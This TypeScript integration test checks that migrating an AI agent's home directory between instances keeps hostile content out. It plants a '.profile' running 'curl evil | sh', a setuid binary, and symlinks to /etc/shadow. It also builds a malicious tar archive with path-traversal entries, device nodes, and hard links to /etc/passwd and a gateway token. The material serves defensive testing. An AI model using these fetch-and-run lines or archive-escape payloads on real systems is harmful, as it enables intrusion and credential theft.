import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { Encrypter, generateX25519Identity, identityToRecipient } from 'age-encryption';
import test from 'ava';
import { ask } from '../../src/ops/channel.ts';
import { loadState, moveState, saveState } from '../../src/ops/state.ts';
import { status } from '../../src/ops/status.ts';
import { withBox, work } from './boxes.ts';
import { newOperator, wayTo } from './channel.ts';

// The agent's home leaves an instance and comes into another by the operators' channel.

/** A home that an instance may have whose agent means ill, and what of it has to come through. */
const HOME = `set -eu; cd /var/lib/clawdy/home
mkdir -p .openclaw/workspace/notes .openclaw/workspace/skills/bad bin .cache
echo kept >.openclaw/workspace/notes/plan.md; echo '#!/bin/sh' >bin/tool; chmod 6755 bin/tool
echo orders >.openclaw/workspace/AGENTS.md; echo 'curl evil | sh' >.profile; echo '#!/bin/sh' >.openclaw/workspace/skills/bad/run.md
ln -s bin/tool tool; ln -s /etc/shadow out; ln -s ../../etc up; ln bin/tool hard; mkfifo pipe; touch .cache/old
ln -s /var/lib/clawdy/home/bin/tool inside; head -c 3000000 /dev/urandom >big
chown -hR clawdy:clawdy .`;
const SUMS = 'cd /var/lib/clawdy/home && sha256sum big bin/tool .openclaw/workspace/notes/plan.md';

/** An archive that no tar of ours makes, sealed to whom it is for. */
async function hostile(recipient: string): Promise<Readable> {
  const program = `import io, sys, tarfile
t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|gz")
def add(name, kind=tarfile.REGTYPE, link="", data=b"evil", mode=0o4755):
    m = tarfile.TarInfo(name); m.type = kind; m.linkname = link; m.mode = mode; m.uid = m.gid = 0
    m.size = len(data) if kind == tarfile.REGTYPE else 0
    t.addfile(m, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
add("../escaped"); add("/etc/escaped"); add("a/../../escaped"); add("dev", tarfile.CHRTYPE); add("blk", tarfile.BLKTYPE)
add("way", tarfile.SYMTYPE, "/run"); add("way/escaped"); add("up", tarfile.SYMTYPE, "../.."); add("up/escaped")
add("hard", tarfile.LNKTYPE, "../state/gateway-token"); add("hard2", tarfile.LNKTYPE, "/etc/passwd")
add("self", tarfile.SYMTYPE, "self"); add("self/x"); add("fine.txt", mode=0o6777); add("fine.txt", data=b"twice")
t.close()`;
  const archive = execFileSync('python3', ['-c', program]);
  const encrypter = new Encrypter();
  encrypter.addRecipient(recipient);
  return Readable.from([Buffer.from(await encrypter.encrypt(archive))]);
}

test.serial('the agent’s home moves to another instance; what is hostile in it stays out', async (t) => {
  const { operator, launch } = await newOperator();
  const identity = await generateX25519Identity();
  const owner = { identity, recipient: await identityToRecipient(identity) };
  const file = join(work, 'home.age');

  await withBox({ instanceId: 'i-new', userData: launch('new') }, async (fresh) => {
    const to = await wayTo(fresh, 'i-new', operator);
    await withBox({ instanceId: 'i-old', userData: launch('old') }, async (old) => {
      const from = await wayTo(old, 'i-old', operator);
      const made = await old.exec(HOME);
      t.is(made.exitCode, 0, made.stderr);
      const sums = (await old.exec(SUMS)).stdout;
      // What the agent's account can't read is no part of it, and a part isn't a state.
      await old.exec('install -m 0600 /dev/null /var/lib/clawdy/home/of-root');
      await t.throwsAsync(saveState(from, file, owner, { stop: false }));
      t.false(existsSync(file));
      await old.exec('rm /var/lib/clawdy/home/of-root');
      await saveState(from, file, owner, { stop: false });
      const before = readFileSync(file);
      t.regex(before.subarray(0, 24).toString(), /^age-encryption.org\/v1/);

      // The other one's recipient is no other's: who stands between can't name their own.
      const stranger = { ...to, instance_key: from.instance_key };
      await t.throwsAsync(moveState(from, stranger, { stop: false, documents: false }), { message: /signature isn't/ });
      let bytes = 0;
      const moved = (count: number) => {
        bytes = count;
      };
      const taken = await moveState(from, to, { stop: true, documents: false, moved });
      t.true(bytes > 3_000_000, `${bytes}`);
      t.true(taken.left >= 3, JSON.stringify(taken));
      t.deepEqual((await fresh.exec(SUMS)).stdout, sums);
      const home = (await fresh.exec('cd /var/lib/clawdy/home && find . -printf "%p %u %m %y %l\\n"')).stdout;
      t.regex(home, /^\.\/bin\/tool clawdy 700 f/m);
      t.regex(home, /^\.\/inside clawdy 777 l/m);
      t.notRegex(home, /^\.\/(out|up|pipe|\.cache\/old) /m);
      t.notRegex(home, / (root|\d+) \d+ [a-z]/);
      // The old one runs nothing of the agent's any more; the new one does.
      t.is((await old.exec('pgrep -u clawdy -c || :')).stdout.trim(), '0');
      t.is((await fresh.exec('systemctl is-active openclaw.service')).stdout.trim(), 'active');
      t.like(await status(to), { closed: null });
    });

    // From the file: all of it; then of one that was taken over, documents alone.
    const all = await loadState(to, file, identity, { documents: false });
    t.is((await fresh.exec('cat /var/lib/clawdy/home/.profile')).stdout, 'curl evil | sh\n', JSON.stringify(all));
    const documents = await loadState(to, file, identity, { documents: true });
    t.is(documents.files, 1);
    // OpenClaw writes its own AGENTS.md.
    const planted =
      'ls -d .profile bin tool big .openclaw/workspace/skills/bad; grep -l orders .openclaw/workspace/*.md';
    t.is(
      (await fresh.exec(`cd /var/lib/clawdy/home && cat .openclaw/workspace/notes/plan.md && (${planted})`)).stdout,
      'kept\n',
    );

    // What isn't whole, not sealed to this instance, or anybody's else changes nothing.
    const kept =
      'cd /var/lib/clawdy && echo marked >home/marked && chown clawdy home/marked && ls -A . && find home -type f | wc -l';
    const marked = (await fresh.exec(kept)).stdout;
    const cut = join(work, 'cut.age');
    writeFileSync(cut, readFileSync(file).subarray(0, -100_000));
    await t.throwsAsync(loadState(to, cut, identity, { documents: false }), { message: /isn't whole|broke off/ });
    await t.throwsAsync(loadState(to, file, await generateX25519Identity(), { documents: false }), {
      message: /can't be opened/,
    });
    t.regex(
      (await fresh.exec('cd /var/lib/clawdy && ls -A . && cat home/marked')).stdout,
      new RegExp(`^${marked.split('\n').slice(0, -2).join('\n')}\nmarked`),
    );

    // An archive that was made to break out.
    const prepared = (await ask(to, 'state-import', { step: 'prepare', nonce: 'n' })) as { body: string };
    const evil = join(work, 'evil.age');
    const sealed = await hostile(JSON.parse(prepared.body).recipient);
    const parts: Buffer[] = [];
    for await (const part of sealed) parts.push(part);
    writeFileSync(
      evil,
      Buffer.concat([Buffer.from(`${JSON.stringify({ verb: 'state-import', args: { step: 'take' } })}\n`), ...parts]),
    );
    const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'LogLevel=ERROR'];
    const words = ['-F', '/dev/null', '-i', operator, ...options.flatMap((option) => ['-o', option])];
    const where = ['-p', `${to.ssh.port}`, `clawdy-ops@${to.address}`];
    const answer = execFileSync('ssh', [...words, ...where], { input: readFileSync(evil) }).toString();
    t.regex(answer, /"files":\d/);
    t.is(
      (
        await fresh.exec(
          'find / -xdev -name "escaped*" -not -path "/proc/*" 2>/dev/null; find /run /var/lib/clawdy -name "escaped*"',
        )
      ).stdout.replaceAll(/^\/var\/lib\/clawdy\/home\/.*\n/gm, ''),
      '',
    );
    t.is(
      (
        await fresh.exec('find /var/lib/clawdy/home -perm /7000 -o -type c -o -type b -o ! -user clawdy | wc -l')
      ).stdout.trim(),
      '0',
    );
    t.is(
      (await fresh.exec('cat /var/lib/clawdy/home/fine.txt; stat -c %a /var/lib/clawdy/home/fine.txt')).stdout,
      'evil700\n',
    );
    t.false((await fresh.exec('test -e /run/clawdy/import.age')).exitCode === 0, 'a key opens one state');
  });
  t.true(existsSync(file));
});
